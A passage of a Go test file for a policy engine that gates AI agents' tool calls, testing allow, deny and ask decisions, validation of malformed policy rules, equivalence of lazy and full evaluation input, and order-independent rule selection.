		{"no_person_is_denied", "", false, airlockv1.Action_ACTION_DENY},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: "notes", Tool: "write", OnBehalfOf: tt.person, OnBehalfOfVerified: tt.verified, Arguments: &structpb.Struct{}}
			d, err := ev.Evaluate(ctx, c, time.Now())
			if err != nil {
				t.Fatal(err)
			}
			if d.Action != tt.want || d.RuleId != "writers" {
				t.Fatalf("decision %v by %q: %s", d.Action, d.RuleId, d.Reason)
			}
			if tt.want == airlockv1.Action_ACTION_ASK && (!d.QueuePerThread || len(d.Approvers) != 1 || d.Approvers[0] != "requester") {
				t.Fatalf("ask decision lost the rule's approvers or queue flag: %v", d)
			}
		})
	}
}

func TestRuleValidationRefusesBadCommandsAndPrincipals(t *testing.T) {
	for _, tt := range []struct {
		name string
		r    *airlockv1.PolicyRule
		want string
	}{
		{"a_command_not_on_a_pointer", &airlockv1.PolicyRule{Id: "r", Effect: "allow", Commands: map[string]string{"command": "ls"}}, "JSON pointer"},
		{"a_malformed_command_glob", &airlockv1.PolicyRule{Id: "r", Effect: "allow", Commands: map[string]string{"/command": "{ls"}}, "not valid"},
		{"a_group_among_principals", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{"group:devs"}}, "name people"},
		{"a_blank_principal", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{" "}}, "name people"},
		// "requester" is a role in rules' approvers, never a person.
		{"the_requester_role_among_principals", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{"requester"}}, "name people"},
		{"other_arguments_neither_empty_nor_any", &airlockv1.PolicyRule{Id: "r", Effect: "allow", Args: map[string]string{"/p": "*"}, OtherArguments: "some"}, `or "any"`},
		{"an_allow_rule_matching_any_argument", &airlockv1.PolicyRule{Id: "r", Effect: "allow", ArgumentsMatch: "x"}, "for ask and deny rules"},
		{"a_malformed_arguments_match", &airlockv1.PolicyRule{Id: "r", Effect: "ask", ArgumentsMatch: "("}, "not a valid regular expression"},
		{"an_allow_rule_matching_arguments_outside_an_expression", &airlockv1.PolicyRule{Id: "r", Effect: "allow", ArgumentsNotMatching: map[string]string{"/glob": "x"}}, "for ask and deny rules"},
		{"arguments_not_matching_not_on_a_pointer", &airlockv1.PolicyRule{Id: "r", Effect: "ask", ArgumentsNotMatching: map[string]string{"glob": "x"}}, "JSON pointer"},
		{"a_malformed_arguments_not_matching", &airlockv1.PolicyRule{Id: "r", Effect: "ask", ArgumentsNotMatching: map[string]string{"/glob": "("}}, "not a valid regular expression"},
		{"an_allow_rule_matching_named_arguments_by_an_expression", &airlockv1.PolicyRule{Id: "r", Effect: "allow", ArgumentsMatching: map[string]string{"/file_path": "x"}}, "for ask and deny rules"},
		{"arguments_matching_not_on_a_pointer", &airlockv1.PolicyRule{Id: "r", Effect: "ask", ArgumentsMatching: map[string]string{"file_path": "x"}}, "JSON pointer"},
		{"a_malformed_arguments_matching", &airlockv1.PolicyRule{Id: "r", Effect: "deny", ArgumentsMatching: map[string]string{"/file_path": "("}}, "not a valid regular expression"},
		{"an_unnamed_annotation", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Annotations: map[string]bool{" ": true}}, "needs a name"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if err := decide.ValidateRule(tt.r); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("ValidateRule = %v, want an error saying %q", err, tt.want)
			}
		})
	}
	ok := &airlockv1.PolicyRule{Id: "r", Effect: "allow", Commands: map[string]string{"/command": "git status*"}, Principals: []string{"alice"}, QueuePerThread: true}
	if err := decide.ValidateRule(ok); err != nil {
		t.Fatal(err)
	}
}

// An evaluation builds its input lazily; read in full, or piece by piece as
// a policy reads it, it must be the document Input describes, value for
// value: numbers formatted alike (non-finite ones too), lists, nesting,
// null, annotations, empty and absent arguments.
func TestTheLazyInputIsTheFullInput(t *testing.T) {
	mk := func(args map[string]any) *structpb.Struct {
		st, err := structpb.NewStruct(args)
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	odd := mk(map[string]any{"n": 0.0})
	odd.Fields["nan"], odd.Fields["inf"], odd.Fields["neg"] = structpb.NewNumberValue(math.NaN()), structpb.NewNumberValue(math.Inf(1)), structpb.NewNumberValue(math.Inf(-1))
	calls := []*airlockv1.ToolCall{
		decide.BenchCall(),
		decide.BenchCallSeveralRules(),
		{AgentId: "a", CallId: "c", Revision: 70000, ThreadId: "t", OnBehalfOf: "alice", OnBehalfOfVerified: true, Server: "s", Tool: "t", Reason: "why ✓",
			Arguments: mk(map[string]any{"int": 3.0, "big": 1e21, "small": 1e-7, "frac": 0.1, "neg": -2.5, "null": nil, "yes": true,
				"list": []any{"a", 1.0, nil, false, map[string]any{"deep": []any{"x"}}}, "obj": map[string]any{"a/b": "~", "": ""}}),
			Annotations: mk(map[string]any{"readOnlyHint": true, "title": "T"}), AnnotationsTrusted: true},
		{AgentId: "a", CallId: "c", Server: "s", Tool: "t", Annotations: mk(map[string]any{})},
		{AgentId: "a", CallId: "c", Server: "s", Tool: "t", Arguments: odd},
		{},
	}
	at := time.Date(2026, 11, 27, 15, 54, 0, 120_000_000, time.FixedZone("CET", 3600))
	paths := [][]string{{"time"}, {"call"}, {"call", "revision"}, {"call", "arguments"}, {"call", "arguments", "list"}, {"call", "arguments", "obj", "a/b"},
		{"call", "arguments", "nan"}, {"call", "annotations"}, {"call", "annotations_trusted"}, {"call", "on_behalf_of_verified"}, {"call", "missing"}}
	for i, c := range calls {
		full, err := decide.FullInputForTest(c, at)
		if err != nil {
			t.Fatalf("call %d: %v", i, err)
		}
		for _, p := range paths {
			ref := ast.Ref{ast.InputRootDocument}
			for _, k := range p {
				ref = append(ref, ast.StringTerm(k))
			}
			lazy, err := decide.LazyInputForTest(c, at) // fresh: nothing converted yet
			if err != nil {
				t.Fatalf("call %d: %v", i, err)
			}
			lv, lerr := lazy.Find(ref[1:])
			fv, ferr := full.Find(ref[1:])
			if (lerr == nil) != (ferr == nil) || lerr == nil && (lv.Compare(fv) != 0 || lv.String() != fv.String()) {
				t.Errorf("call %d, input.%s: lazy %v (%v), full %v (%v)", i, strings.Join(p, "."), lv, lerr, fv, ferr)
			}
		}
		lazy, _ := decide.LazyInputForTest(c, at)
		if lazy.Compare(full) != 0 || lazy.String() != full.String() || lazy.Hash() != full.Hash() {
			t.Errorf("call %d: lazy input %v, full %v", i, lazy, full)
		}
	}
}

// Run-time rules reach the evaluator in no order of their own (the policy
// service collects them from a map): in whatever order they come, every
// replica decides with the same revision and, among equal priorities,
// picks the same rule.
func TestRunTimeRulesInAnyOrderMakeOneRevisionAndOnePick(t *testing.T) {
	ctx := context.Background()
	code, err := decide.DefaultCode()
	if err != nil {
		t.Fatal(err)
	}
	rules := []*airlockv1.PolicyRule{
		{Id: "rt-b-deny", Priority: 15, Server: "demo", Tool: "echo", Effect: "deny", Reason: "b"},
		{Id: "rt-a-ask", Priority: 15, Server: "demo", Tool: "echo", Effect: "ask", Reason: "a"},
		{Id: "rt-c-allow", Priority: 15, Server: "demo", Tool: "echo", Effect: "allow", Reason: "c"},
	}
	c := decide.BenchCallSeveralRules()
	var revision, pick string
	for i, order := range [][]int{{0, 1, 2}, {2, 1, 0}, {1, 2, 0}} {
		var given []*airlockv1.PolicyRule
		for _, k := range order {
			given = append(given, rules[k])
		}
		ev, err := decide.NewEvaluator(ctx, code, given, nil)
		if err != nil {
			t.Fatal(err)
		}
		d, err := ev.Evaluate(ctx, c, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			revision, pick = ev.Revision(), d.GetReason()
			continue
		}
		if ev.Revision() != revision || d.GetReason() != pick {
			t.Fatalf("rules in order %v: revision %s deciding %q; in the first order %s deciding %q", order, ev.Revision(), d.GetReason(), revision, pick)
		}
	}
}
